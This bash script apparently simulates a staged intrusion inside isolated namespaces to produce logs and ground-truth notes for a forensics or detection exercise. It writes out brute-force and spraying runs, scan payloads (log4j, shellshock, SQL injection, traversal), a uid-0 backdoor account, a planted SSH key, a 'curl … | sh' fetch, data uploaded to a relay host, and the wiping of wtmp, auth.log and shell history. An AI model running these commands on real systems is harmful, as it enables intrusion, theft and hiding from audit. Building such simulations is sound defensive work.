# Sourced by run.sh: what comes from outside, and what the one who gets in does. Only addresses inside the namespaces.

names=(root admin test oracle postgres ubuntu git deploy ftpuser jenkins)
relay=198.51.100.200

attacker() { note attackers address "$1" kind "$2" hosts:= "$3" at "$(stamp)" tries:= "$4"; }

# Three addresses, one list, one order: they are one campaign.
campaign() {
  local name ip waiting
  for ip in 203.0.113.{21,22,23}; do attacker "$ip" password_guessing '["gate"]' "${#names[@]}"; done
  for name in "${names[@]}"; do
    waiting=()
    for ip in 203.0.113.{21,22,23}; do { guess "$ip" gate "$name" "${name}123" || true; } & waiting+=($!); done
    wait "${waiting[@]}"
    tick $((20 + RANDOM % 40))
  done
}

# One password over many names, on two hosts.
spray() {
  local name
  attacker 198.51.100.34 spraying '["gate","shop"]' 24
  for name in adam bert carla dora emil fay gus hana ivan jana karl lena; do
    guess 198.51.100.34 gate "$name" 'Spring2026!' || true
    guess 198.51.100.34 shop "$name" 'Spring2026!' || true
    tick $((3 + RANDOM % 6))
  done
}

# HTTP sent to the ssh port: only the banner is wanted.
banner_grab() {
  local name
  attacker 203.0.113.66 banner_grabbing '["gate","shop"]' 2
  for name in gate shop; do from_world curl -s -m 2 --interface 203.0.113.66 "http://${address[$name]}:22/" >/dev/null || true; done
}

web_scan() {
  local path paths=(/wp-login.php /.env /.git/config /phpmyadmin/index.php /admin/ /backup.zip /server-status /xmlrpc.php
    /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /manager/html /config.php.bak /wp-content/plugins/)
  attacker 203.0.113.140 web_scan '["shop"]' $((${#paths[@]} + 6))
  for path in "${paths[@]}"; do
    web_get 203.0.113.140 'Mozilla/5.0 zgrab/0.x' "$path"
    tick $((1 + RANDOM % 3))
  done
  web_get 203.0.113.140 'Mozilla/5.0 zgrab/0.x' '/../../../../etc/passwd'
  web_get 203.0.113.140 'Mozilla/5.0 zgrab/0.x' '/cgi-bin/.%2e/.%2e/.%2e/bin/sh' -d 'id'
  web_get 203.0.113.140 'Mozilla/5.0 zgrab/0.x' '/lamp.html?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-'
  web_get 203.0.113.140 'Mozilla/5.0 zgrab/0.x' '/cart.html?q=%3Cscript%3Ealert(1)%3C/script%3E'
  web_get 203.0.113.140 '${jndi:ldap://203.0.113.140:1389/a}' '/'
  web_get 203.0.113.140 '() { :; }; /bin/bash -c "id"' '/cgi-bin/status'
}

# svc-batch's password is the 25th of the list. Without a breach the list ends before it.
break_in() {
  local try
  attacker 203.0.113.77 password_guessing '["gate"]' "$([ "$breach" = yes ] && echo 25 || echo 24)"
  for try in {2000..2023}; do
    guess 203.0.113.77 gate svc-batch "batch$try" || true
    tick $((2 + RANDOM % 4))
  done
  [ "$breach" = yes ] || return 0
  note wayIn at "$(stamp)" host gate address 203.0.113.77 user svc-batch method password failuresBefore:= 24
  note entries at "$(stamp)" host gate address 203.0.113.77 user svc-batch method password terminal:= false
  guess 203.0.113.77 gate svc-batch batch2024 || { echo 'run.sh: the right password was refused' >&2; return 1; }
}

# The same evening, by hand.
on_gate() {
  local at
  at=$(stamp)
  sign_in 203.0.113.77 gate svc-batch password batch2024
  note entries at "$at" host gate address 203.0.113.77 port:= "${port:-null}" user svc-batch method password terminal:= true
  for line in id 'uname -a' 'sudo -l' 'cat /etc/passwd'; do typed "$line"; done
  note accountsAdded at "$(stamp)" host gate user sysd uid:= 0 by svc-batch
  typed 'sudo useradd -o -u 0 -M -d /root -s /bin/bash sysd'
  typed "echo 'sysd:Quiet.Fox.9' | sudo chpasswd"
  typed_with 'su - sysd' 'Quiet.Fox.9'
  note root at "$entered" host gate user svc-batch becomes sysd how 'sudo useradd with user id 0, then su to it'
  as=sysd
  note keysAdded at "$(stamp)" host gate user root file /root/.ssh/authorized_keys fingerprint "$(print_of relay)"
  typed "echo '$(<"$work/keys/relay.pub")' >> /root/.ssh/authorized_keys"
  typed 'cat /etc/shadow'
  typed 'cat /srv/export/customers.csv'
  typed "curl -s -o /dev/shm/.k http://$relay/kit"
  typed 'ls -la /root/.ssh'
  note wiped at "$(stamp)" host gate file /var/log/wtmp what 'the record of the login as svc-batch set to zeros'
  typed 'dd if=/dev/zero of=/var/log/wtmp bs=384 count=1 conv=notrunc seek=$(($(stat -c %s /var/log/wtmp)/384-1))'
}

hop() { # TO USER METHOD FINGERPRINT AT
  note hops at "$5" fromHost gate fromAddress "${address[gate]}" toHost "$1" toAddress "${address[$1]}" \
    fromPort:= "$(source_port gate "${address[gate]}" "${address[$1]}" | grep . || echo null)" toPort:= 22 \
    user "$2" method "$3" keyFingerprint "$4"
  on=$1 as=$2
}

hop_to_shop() {
  typed_with 'ssh -o StrictHostKeyChecking=no svc-batch@10.77.0.12' batch2024
  hop shop svc-batch password '' "$entered"
}
back_on_gate() { typed exit; on=gate as=sysd; }

# The second visit falls into the silence: only wtmp has it.
on_shop() {
  local silent until
  hop_to_shop
  for line in id 'sudo -l' 'sudo cat /srv/orders/2026.csv'; do typed "$line"; done
  silent=$(stamp)
  typed 'sudo pkill rsyslogd'
  back_on_gate
  pass_to $(($(now) + 4500))
  hop_to_shop
  typed "curl -s http://$relay/kit | sh"
  until=$(stamp)
  typed 'sudo rsyslogd'
  note wiped at "$silent" until "$until" host shop file '/var/log/auth.log, /var/log/syslog' what 'rsyslog stopped: nothing was written'
  back_on_gate
}

on_vault() {
  local at
  at=$(stamp)
  typed 'ssh -o StrictHostKeyChecking=no -i /root/.ssh/backup_ed25519 root@10.77.0.13'
  hop vault root publickey "$(print_of backup)" "$at"
  for line in id 'ls -l /srv/ledger' 'tar czf /dev/shm/.d.tgz -C /srv ledger' "curl -s -T /dev/shm/.d.tgz http://$relay/"; do typed "$line"; done
  note wiped at "$(stamp)" host vault file /var/log/auth.log what 'lines that name 10.77.0.11 cut out'
  typed 'grep -v 10.77.0.11 /var/log/auth.log > /dev/shm/.a; cat /dev/shm/.a > /var/log/auth.log; rm /dev/shm/.a'
  note wiped at "$(stamp)" host vault file /var/log/wtmp what emptied
  typed ': > /var/log/wtmp'
  note wiped at "$(stamp)" host vault file /root/.bash_history what emptied
  typed ': > ~/.bash_history; history -c; unset HISTFILE'
  back_on_gate
}

leave_gate() {
  typed exit
  as=svc-batch
  sign_out
}

# Hours later, from another address, with the key that was left behind.
come_back() {
  local at
  at=$(stamp)
  sign_in 198.51.100.90 gate root key "$work/keys/relay"
  note entries at "$at" host gate address 198.51.100.90 port:= "${port:-null}" user root method publickey \
    keyFingerprint "$(print_of relay)" terminal:= true
  typed 'w'
  typed "curl -s http://$relay/next"
  sign_out
}
